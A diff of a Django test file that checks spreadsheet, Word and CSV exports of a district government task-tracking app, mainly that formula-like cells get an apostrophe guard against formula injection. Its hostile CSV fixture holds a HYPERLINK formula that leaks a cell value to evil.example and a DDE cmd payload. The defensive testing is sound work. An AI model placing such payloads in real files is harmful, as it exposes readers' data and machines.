@@ -1,21 +1,27 @@
 """Files people hand on: the Excel ledger, the Word circulated report, the plan CSV."""
 
+import csv
 import datetime as dt
 import io
+import re
 
 import docx
 import openpyxl
 import pytest
 from django.db import connection
+from django.db.models import Count, Q
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
 from imports.pipeline import plan_import
 from tasks import selectors
-from tasks.exports import LEDGER_COLUMNS, ExportRow, ledger_xlsx
-from tasks.models import Plan, ProgressStatus, ReviewState, Task, Unit
+from tasks.exports import LEDGER_COLUMNS, ExportRow, ledger_xlsx, spreadsheet_safe
+from tasks.models import Plan, ProgressReport, ProgressStatus, ReviewState, Task, Unit
 from tasks.selectors import Clock
 from tests.factories import report_make
+from tests.test_resources import assert_no_live_cell
 
 pytestmark = pytest.mark.django_db
 TODAY = dt.date(2025, 6, 15)
@@ -113,7 +119,8 @@ def test_formula_like_text_is_written_as_text(db, client_as, office_user):
     plan_import(data=csv.encode(), file_name="f.csv")
     sheet = _xlsx(client_as(office_user)).active
     cells = [row[3] for row in sheet.iter_rows(min_row=4)]
-    assert [c.value for c in cells] == ['=HYPERLINK("http://x")', "+1 加一", "-2 减二", "@SUM(A1)"]
+    # Text, and guarded by the apostrophe: a reader who edits the cell does not turn it into a formula.
+    assert [c.value for c in cells] == ['\'=HYPERLINK("http://x")', "'+1 加一", "'-2 减二", "'@SUM(A1)"]
     assert {c.data_type for c in cells} == {"s"}
 
 
@@ -159,8 +166,8 @@ def test_ledger_layout_merges_and_colours():
         None,
         None,
         None,
-        "=二、促改革",
-        "=二、促改革",
+        "'=二、促改革",
+        "'=二、促改革",
     ]
     assert sheet["B5"].value is None and sheet["B6"].value == sheet["B7"].value is None
     assert sheet.freeze_panes == "A4"
@@ -188,7 +195,7 @@ def test_ledger_layout_merges_and_colours():
     assert sheet["M4"].value == "2025-06-10 09:00"
     for ref in ("A8", "C8", "D8"):  # formula-like text stays text, merged top cells included
         assert sheet[ref].data_type == "s"
-    assert (sheet["C8"].value, sheet["D8"].value) == ("=5", "+1 加一")
+    assert (sheet["C8"].value, sheet["D8"].value) == ("'=5", "'+1 加一")
 
 
 def test_empty_ledger_has_title_and_header_only():
@@ -285,3 +292,158 @@ def test_exports_need_a_role(seed_plans, client_as, outsider_user):
         reverse("tasks:plan_csv", args=[plan.pk]),
     ):
         assert client.get(url).status_code == 403
+
+
+# -- issue 14: formulas, raw values and UTC times in the files ----------------------------------
+
+ASCII_WORD = re.compile(r"[A-Za-z_]{4,}")
+STATUS_LABELS = {"未启动", "推进中", "已完成", "滞后", "持续推进", "未报送", "待审核"}
+HOSTILE_CSV = (
+    "标题：2030年区委、区政府重点工作任务分解表\n"
+    "序号,类别,项目,任务,牵头领导,牵头单位,配合单位,备注,完成时限\n"
+    '1,一、=测试,@项目,"=HYPERLINK(""http://evil.example/?leak=""&D5,""点击"")",=谭瑞琮,=cmd单位,+配合单位,-备注,@年底\n'
+    "2,一、=测试,@项目,=cmd|' /C calc'!A0,-领导,@单位,区科委,=1,-\n"
+    "3,一、=测试,@项目,+1 加一,谭瑞琮,区科委,,,\n"
+    "4,一、=测试,@项目,@SUM(A1:A9),谭瑞琮,区科委,,,\n"
+)
+
+
+def _hostile_import() -> Plan:
+    """A plan imported from a document whose every column starts like a formula."""
+    assert plan_import(data=HOSTILE_CSV.encode(), file_name="hostile.csv").applied
+    return Plan.objects.get(year_start=2030)
+
+
+def test_ledger_guards_every_cell(db, pinned, client_as, office_user):
+    from django.contrib.auth import get_user_model
+
+    plan = _hostile_import()
+    task = plan.tasks.get(number="1")
+    report_make(
+        task=task,
+        unit=task.unit_links.get(role="lead").unit,
+        period=dt.date(2025, 6, 1),
+        status=ProgressStatus.BEHIND,
+        percent=10,
+        progress_text="=1+1",
+        problems="-问题",
+        next_steps="@计划",
+        review_state=ReviewState.APPROVED,
+        reviewed_by=get_user_model().objects.create_user(username="+reviewer"),
+        reported_at=dt.datetime(2025, 6, 10, 9, tzinfo=dt.UTC),
+    )
+    sheet = _xlsx(client_as(office_user), plan=plan.pk).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert assert_no_live_cell(cell.value for cell in cells) == len(cells)
+    first = [cell.value for cell in sheet[4]]
+    assert first[:6] == [
+        "一、=测试",  # starts with 一: nothing to guard
+        "'@项目",
+        "1",
+        '\'=HYPERLINK("http://evil.example/?leak="&D5,"点击")',
+        "'=谭瑞琮",
+        "'=cmd单位",
+    ]
+    assert (first[9], first[10], first[11], first[13]) == ("'=1+1", "'-问题", "'@计划", "'+reviewer")
+
+
+def _keji_task_without_report(keji: Unit) -> Task:
+    """An annual-plan task 区科委 alone leads that has no report yet."""
+    return (
+        Task.objects.filter(plan__kind="annual", unit_links__unit=keji, unit_links__role="lead", reports=None)
+        .annotate(leads=Count("unit_links", filter=Q(unit_links__role="lead")))
+        .filter(leads=1)
+        .order_by("position")
+        .first()
+    )
+
+
+def test_ledger_shows_status_labels_and_local_times(reported, client_as, office_user, liaison_user):
+    keji = Unit.objects.get(name="区科委")
+    t4, _ = reported
+    ProgressReport.objects.filter(task=t4).update(reported_at=dt.datetime(2025, 6, 10, 17, 30, tzinfo=dt.UTC))
+    # Another task of 区科委 reported this period and awaits review: it shows 待审核, as on the pages.
+    t5 = _keji_task_without_report(keji)
+    report_make(
+        task=t5,
+        unit=keji,
+        period=dt.date(2025, 6, 1),
+        status=ProgressStatus.IN_PROGRESS,
+        percent=30,
+        progress_text="已报送。",
+        review_state=ReviewState.SUBMITTED,
+        reported_by=liaison_user,
+        reported_at=dt.datetime(2025, 6, 12, 1, tzinfo=dt.UTC),
+    )
+    sheet = _xlsx(client_as(office_user), plan=Plan.objects.get(kind="annual").pk).active
+    rows = {row[2]: row for row in sheet.iter_rows(min_row=4, values_only=True)}
+    assert rows[t5.number][6] == "待审核"
+    assert rows["4"][6] == "推进中" and rows["4"][12] == "2025-06-11 01:30"  # 17:30 UTC is 01:30 in Shanghai
+    for row in rows.values():
+        for column in (6, 7, 12):  # 状态, 预警, 报送时间
+            assert not ASCII_WORD.search(str(row[column] or "")), row
+    assert {row[6] for row in rows.values()} <= STATUS_LABELS
+
+
+def test_word_report_shows_status_labels(reported, client_as, office_user, liaison_user):
+    keji = Unit.objects.get(name="区科委")
+    t5 = _keji_task_without_report(keji)
+    report_make(
+        task=t5,
+        unit=keji,
+        period=dt.date(2025, 6, 1),
+        status=ProgressStatus.IN_PROGRESS,
+        percent=30,
+        review_state=ReviewState.SUBMITTED,
+        reported_by=liaison_user,
+        reported_at=dt.datetime(2025, 6, 12, 1, tzinfo=dt.UTC),
+    )
+    plan = Plan.objects.get(kind="annual")
+    response = client_as(office_user).get(reverse("tasks:plan_bulletin", args=[plan.pk]))
+    document = docx.Document(io.BytesIO(b"".join(response.streaming_content)))
+    summary = next(p.text for p in document.paragraphs if p.text.startswith("截至"))
+    assert "待审核1项" in summary and "推进中1项" in summary and "滞后1项" in summary
+    assert "灰灯" in summary and not ASCII_WORD.search(summary), summary
+    header = [cell.text for cell in document.tables[0].rows[0].cells]
+    assert header == ["类别", "任务数", "红灯", "黄灯", "绿灯", "灰灯"]
+    statuses = [
+        row.cells[index].text
+        for table in document.tables[1:]
+        for index in [[cell.text for cell in table.rows[0].cells].index("状态")]
+        for row in table.rows[1:]
+    ]
+    assert statuses and set(statuses) <= STATUS_LABELS, set(statuses) - STATUS_LABELS
+
+
+def test_plan_csv_guards_every_cell_and_imports_back_identically(db, client_as, office_user):
+    plan = _hostile_import()
+    # Text that itself starts with the guard must come back exactly too.
+    Task.objects.filter(plan=plan, number="3").update(text="'=引号开头的任务", note="''两个引号")
+    response = client_as(office_user).get(reverse("tasks:plan_csv", args=[plan.pk]))
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert assert_no_live_cell(value for row in rows for value in row) > 40
+    body = {row[0]: row for row in rows if row[0].isdigit()}
+    assert body["1"][1:] == [
+        "一、=测试",
+        "'@项目",
+        '\'=HYPERLINK("http://evil.example/?leak="&D5,"点击")',
+        "'=谭瑞琮",
+        "'=cmd单位",
+        "'+配合单位",
+        "'-备注",
+        "'@年底",
+    ]
+    assert body["3"][3] == "''=引号开头的任务" and body["3"][7] == "'''两个引号"
+    report = plan_import(data=response.content, file_name="round-trip.csv", dry_run=True)
+    assert report.diff.is_empty, report.diff.summary()
+
+
+@given(text=st.text(alphabet="'=+-@\t\r 甲a1", max_size=6))
+def test_the_guard_is_undone_exactly_and_leaves_nothing_live(text):
+    from imports.read import _unguard
+
+    guarded = spreadsheet_safe(text)
+    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert _unguard(guarded) == text  # what the plan CSV importer reads back
